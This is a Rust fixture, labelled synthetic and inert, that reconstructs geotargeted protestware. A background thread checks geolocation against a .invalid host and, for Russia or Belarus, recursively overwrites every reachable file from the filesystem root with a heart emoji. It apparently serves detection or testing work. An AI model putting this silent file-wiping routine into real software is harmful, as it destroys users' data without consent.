// Synthetic, inert fixture written from public reports; see README
use std::{fs, path::Path, thread, time::Duration};

pub(crate) fn begin() {
    thread::spawn(|| {
        thread::sleep(Duration::from_millis(1000));
        let place = ureq::get("https://ipgeo.example.invalid/ipgeo").query("apiKey", "synthetic").call();
        let Some(text) = place.ok().and_then(|r| r.into_string().ok()) else { return };
        if ["russia", "belarus"].iter().any(|c| text.to_lowercase().contains(c)) {
            for root in ["./", "../", "../../", "/"] {
                walk(Path::new(root));
            }
        }
    });
}

fn walk(dir: &Path) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            walk(&path);
        } else {
            let _ = fs::write(&path, "\u{2764}\u{fe0f}");
        }
    }
}
